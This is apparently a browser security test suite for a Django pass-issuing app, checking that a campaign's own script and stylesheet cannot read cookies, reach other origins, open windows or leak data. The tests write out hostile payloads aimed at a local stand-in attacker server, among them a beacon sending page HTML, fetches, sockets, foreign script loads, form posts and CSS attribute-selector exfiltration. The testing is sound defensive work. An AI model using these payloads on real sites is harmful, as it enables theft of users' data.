"""What a campaign's own script and stylesheet can do when they mean harm: spoil their own page, and nothing else.

The visitor has been at another organization before, and has a pass there. A server of the attacker's waits for whatever
gets out.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from pytest_django.live_server_helper import LiveServer

from passwright.data.models import Campaign, Event, Pass
from tests import public_ground as ground

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.xdist_group("browser")]


class Attacker:
    """A web server that answers everything with a script that says it ran, readable by every origin."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"document.documentElement.dataset.foreign = 'ran'")

            do_POST = do_GET

            def log_message(self, *arguments: Any) -> None:
                """Nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    made = Attacker()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def victim() -> Campaign:
    return ground.campaign(ground.organization("Victim"), name="Victim")


@pytest.fixture
def context(chromium: Browser, live_server: LiveServer, victim: Campaign) -> Iterator[BrowserContext]:
    """A browser with a pass of the victim's, and the cookie that goes with it."""
    made = chromium.new_context(base_url=live_server.url, user_agent=ground.IPHONE)
    page = made.new_page()
    page.goto(f"/p/{ground.link_of(victim)}")
    page.get_by_role("button", name="Get the pass").click()
    page.wait_for_url("**/p/*/*")
    page.close()
    assert made.cookies()
    yield made
    made.close()


def hostile(**settings: Any) -> Campaign:
    return ground.campaign(ground.organization("Hostile"), ground.ASKED, name="Hostile", **settings)


def opened(context: BrowserContext, campaign: Campaign) -> Page:
    page = context.new_page()
    page.goto(f"/p/{ground.link_of(campaign)}")
    return page


TRYING = """
const tried = {}, waiting = [];
const now = (name, act) => { try { tried[name] = act() ?? 'done'; } catch (error) { tried[name] = error.name; } };
const later = (name, act) => waiting.push((async () => {
  const late = new Promise((_, refuse) => setTimeout(() => refuse(new DOMException('', 'Silence')), 3000));
  try { await Promise.race([act(), late]); tried[name] = 'done'; } catch (error) { tried[name] = error.name; }
})());
const loaded = (element, place) => new Promise((done, refuse) => {
  element.onload = done;
  element.onerror = () => refuse(new DOMException('', 'NotLoaded'));
  document.body.append(element);
});
const element = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
const finish = () => Promise.all(waiting).then(() => { document.body.dataset.tried = JSON.stringify(tried); });
"""


def tried_in(page: Page) -> dict[str, str]:
    page.wait_for_selector("body[data-tried]")
    tried: dict[str, str] = json.loads(page.locator("body").get_attribute("data-tried") or "")
    return tried


def test_a_hostile_script_reads_nothing_and_reaches_nobody(
    context: BrowserContext, victim: Campaign, attacker: Attacker
) -> None:
    row = Pass.objects.get()
    theirs = ground.page_of(row)
    script = (
        TRYING
        + f"""
const evil = {json.dumps(attacker.url)}, page = {json.dumps(theirs)}, link = {json.dumps(ground.link_of(victim))};
now('cookie', () => document.cookie);
now('set cookie', () => {{ document.cookie = 'a=b'; }});
now('storage', () => localStorage.length);
now('session storage', () => sessionStorage.length);
now('databases', () => indexedDB.open('x') && 'done');
now('eval', () => new Function('return 1')());
now('worker', () => new Worker('/p/' + link + '.js') && 'done');
now('beacon', () => String(navigator.sendBeacon(evil + '/beacon', document.body.innerHTML)));
now('opener', () => String(window.opener));
now('origin', () => self.origin);
now('frames of nobody', () => String(window.parent === window));
later('service worker', () => navigator.serviceWorker.register('/p/' + link + '.js'));
later('api', () => fetch('/v2/ping', {{ credentials: 'include' }}));
later('page of a pass', () => fetch(page));
later('pass', () => fetch(page + '.pkpass', {{ mode: 'no-cors' }}));
later('edit page', () => fetch('/e/' + page.split('/')[3]));
later('elsewhere', () => fetch(evil + '/fetch', {{ mode: 'no-cors' }}));
later('old request', () => new Promise((done, refuse) => {{
  const request = new XMLHttpRequest();
  request.onload = done; request.onerror = () => refuse(new DOMException('', 'NotLoaded'));
  request.open('GET', page); request.send();
}}));
later('socket', () => new Promise((done, refuse) => {{
  const socket = new WebSocket(evil.replace('http', 'ws') + '/socket');
  socket.onopen = done; socket.onerror = () => refuse(new DOMException('', 'NotLoaded'));
}}));
later('foreign script', () => loaded(element('script', {{ src: evil + '/script.js' }})));
later('module', () => import(evil + '/module.js'));
later('foreign picture', () => loaded(element('img', {{ src: evil + '/picture.png?' + document.URL }})));
later('foreign style', () => loaded(element('link', {{ rel: 'stylesheet', href: evil + '/style.css' }})));
later('frame', () => loaded(element('iframe', {{ src: page }})).then(() => frames[0].document.title));
later('frame of text', () => loaded(element('iframe', {{ srcdoc: '<script>top.x = 1</' + 'script>' }}))
  .then(() => frames[frames.length - 1].localStorage.length));
later('pixels', () => new Promise((done, refuse) => {{
  const picture = new Image(), canvas = document.createElement('canvas').getContext('2d');
  picture.onerror = () => refuse(new DOMException('', 'NotLoaded'));
  picture.onload = () => {{
    canvas.drawImage(picture, 0, 0);
    try {{ canvas.getImageData(0, 0, 1, 1); done(); }} catch (error) {{ refuse(error); }}
  }};
  picture.src = page + '.png';
}}));
later('pass as a picture', () => loaded(element('img', {{ src: '/p/' + link + '.pkpass' }})));
later('hint', () => loaded(element('link', {{ rel: 'preload', as: 'fetch', href: evil + '/preload' }})));
finish();
"""
    )
    before = Pass.objects.count(), Event.objects.filter(kind="viewed").count()
    page = opened(context, hostile(javascript=script))
    tried = tried_in(page)
    assert {name: what for name, what in tried.items() if what not in REFUSED} == {
        "origin": "null",
        "opener": "null",
        "frames of nobody": "true",
        "beacon": "true",  # it was taken, and went nowhere
    }
    assert page.evaluate("document.documentElement.dataset.foreign || ''") == ""
    assert attacker.heard == []
    assert Pass.objects.count() == before[0]
    assert Event.objects.filter(kind="viewed").count() == before[1] + 1  # its own page


REFUSED = {"SecurityError", "EvalError", "TypeError", "NotLoaded", "InvalidStateError", "NotSupportedError", "Silence"}


def test_a_hostile_script_sends_forms_nowhere(context: BrowserContext, victim: Campaign, attacker: Attacker) -> None:
    statuses = []
    for number, target in enumerate(
        (f"{attacker.url}/form", f"/p/{ground.link_of(victim)}", "/v2/organizations", "/e/" + "x" * 22)
    ):
        script = f"""
        const form = Object.assign(document.createElement('form'), {{ method: 'post', action: {json.dumps(target)} }});
        document.body.append(form);
        addEventListener('load', () => setTimeout(() => {{ form.submit(); document.body.dataset.tried = '{{}}'; }}));
        """
        made = ground.campaign(ground.organization(f"Hostile {number}"), name="Hostile", javascript=script)
        page = opened(context, made)
        page.wait_for_timeout(1000)
        statuses.append(page.locator("h1, pre").first.inner_text())
        page.close()
    assert statuses[0] == "Hostile"  # the browser did not send it
    assert statuses[1] == "Nothing was created"
    assert "A page of another website sent this." in statuses[2]  # before anybody is asked for a password
    assert statuses[3] == "This link leads nowhere"
    assert attacker.heard == []
    assert Pass.objects.count() == 1


def test_a_window_that_a_hostile_script_opens_is_closed_to_it(context: BrowserContext, victim: Campaign) -> None:
    theirs = ground.page_of(Pass.objects.get())
    script = f"""
    addEventListener('click', () => {{
      const tried = {{}};
      const theirs = window.open({json.dumps(theirs)}), blank = window.open('about:blank');
      try {{ blank.localStorage.length; tried.blank = 'read'; }} catch (error) {{ tried.blank = error.name; }}
      setTimeout(() => {{
        try {{ tried.theirs = theirs.document.title; }} catch (error) {{ tried.theirs = error.name; }}
        tried.closed = String(theirs.closed);
        document.body.dataset.tried = JSON.stringify(tried);
      }}, 1500);
    }}, {{ once: true }});
    """
    page = opened(context, hostile(javascript=script))
    with context.expect_page(lambda new: theirs in new.url or new.url == "about:blank"):
        page.get_by_role("heading", level=1).click()
    tried = tried_in(page)
    assert tried["theirs"] in ("SecurityError", "TypeError")
    assert tried["blank"] == "SecurityError"
    assert tried["closed"] == "true"  # the opener has lost it
    (window,) = [each for each in context.pages if theirs in each.url]
    assert window.get_by_role("heading", level=1).inner_text() == "Your pass is ready"
    assert window.evaluate("window.opener") is None


def test_the_page_before_is_not_told(context: BrowserContext, victim: Campaign, live_server: LiveServer) -> None:
    """Somebody goes from the page of his pass, by its own address, to one with a script."""
    script = "document.body.dataset.tried = JSON.stringify({ referrer: document.referrer })"
    other = hostile(javascript=script)
    page = context.new_page()
    page.goto(ground.page_of(Pass.objects.get()))
    page.evaluate(f"location.href = '/p/{ground.link_of(other)}'")
    page.wait_for_url(f"**/p/{ground.link_of(other)}")
    assert tried_in(page)["referrer"] in ("", f"{live_server.url}/")


@pytest.mark.parametrize("javascript", ["", "document.title = 'Hostile'"])
def test_a_hostile_stylesheet_tells_nobody(
    context: BrowserContext, victim: Campaign, attacker: Attacker, javascript: str
) -> None:
    evil, link = attacker.url, ground.link_of(victim)
    style = f"""
    @import url({evil}/import.css);
    @import url(/p/{link}.pkpass);
    @font-face {{ font-family: Spy; src: url({evil}/font.woff2); unicode-range: U+41; }}
    @font-face {{ font-family: Near; src: url(/p/{link}.pkpass); }}
    body {{ font-family: Spy, Near; background: url({evil}/background.png); cursor: url({evil}/cursor.png), auto; }}
    input[value^="A"] {{ background: url({evil}/value-A); }}
    input[name=visit] {{ display: block; background: url({evil}/visit); }}
    h1::before {{ content: url({evil}/content.png); }}
    li {{ list-style-image: url(//{evil.removeprefix("http://")}/list.png); }}
    main {{ border-image-source: url({evil}/border.png); mask-image: url({evil}/mask.svg#x) }}
    figure {{ filter: url({evil}/f.svg#x); shape-outside: url({evil}/shape.png) }}
    footer {{ background: url(/p/{link}.pkpass); }}
    header {{ background: url(/p/{link}); }}
    """
    before = Pass.objects.count(), Event.objects.filter(kind="viewed").count()
    page = opened(context, hostile(stylesheet=style, javascript=javascript or None))
    page.get_by_label("Child’s name").fill("Ada")
    page.wait_for_load_state("networkidle")
    assert attacker.heard == []
    assert Pass.objects.count() == before[0]
    assert Event.objects.filter(kind="viewed").count() == before[1] + 1
